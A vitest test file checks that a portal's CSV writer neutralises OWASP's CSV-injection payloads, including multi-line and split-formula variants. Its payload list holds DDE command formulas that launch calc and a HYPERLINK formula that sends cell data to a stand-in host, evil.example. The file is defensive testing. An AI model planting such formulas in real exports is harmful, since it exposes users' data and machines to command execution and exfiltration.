// The portal's CSV writer against OWASP's CSV-injection payloads: read back as
// a spreadsheet reads the file, no cell and no line inside a cell begins with
// what starts a formula, and each cell is its text with a quote before it.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvFile } from "./csv";

const payloads = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "\t=1+1",
  "\r=1+1",
  "=1+1 x",
  "-2+3+cmd|' /C calc'!A0",
];

/** The same payloads after a first line of harmless text, in each of the line breaks a spreadsheet knows. */
const multiLine = payloads.flatMap((payload) => ["\n", "\r\n", "\r"].map((lineBreak) => `Ada${lineBreak}${payload}`));

/** Each payload behind a line break at the cell's start: `=HYPERLINK(` and its arguments on the next line. */
const formulaThenBreak = payloads.map((payload) => `${payload.slice(0, 3)}\n${payload.slice(3)}`);

const cellsOf = (csv: string) => Papa.parse<string[]>(csv, { newline: "\r\n" }).data;

/** Whether a spreadsheet would run the text, or one of its lines, as a formula. */
const runnable = (cell: string) => [cell, ...cell.split(/\r\n|\r|\n/)].some((text) => /^[=+\-@\t\r]/.test(text));

describe("csvFile", () => {
  it.each([
    ["OWASP's payloads", payloads],
    ["a payload on a later line of a cell", multiLine],
    ["a formula with a line break inside it", formulaThenBreak],
  ])("neutralises %s in every cell, the header's too", async (_what, cells) => {
    const csv = await csvFile(
      ["=header", "name"],
      cells.map((cell) => [cell, cell]),
    );
    const [header, ...rows] = cellsOf(csv);
    expect(header).toEqual(["'=header", "name"]);
    expect(rows.map((row) => row.length)).toEqual(cells.map(() => 2));
    expect(rows.flat().filter(runnable), "cells a spreadsheet would run").toEqual([]);
    const unquoted = (cell: string) => cell.replace(/(^|\r\n|\r|\n)'/g, "$1");
    expect(rows.map((row) => row.map(unquoted))).toEqual(cells.map((cell) => [cell, cell]));
  });

  it("quotes every cell and leaves harmless text as it is", async () => {
    const csv = await csvFile(
      ["line", "name"],
      [
        ["2", 'Ada "the Countess", L'],
        ["3", "a;b\nc"],
      ],
    );
    expect(csv).toBe('"line","name"\r\n"2","Ada ""the Countess"", L"\r\n"3","a;b\nc"');
  });
});
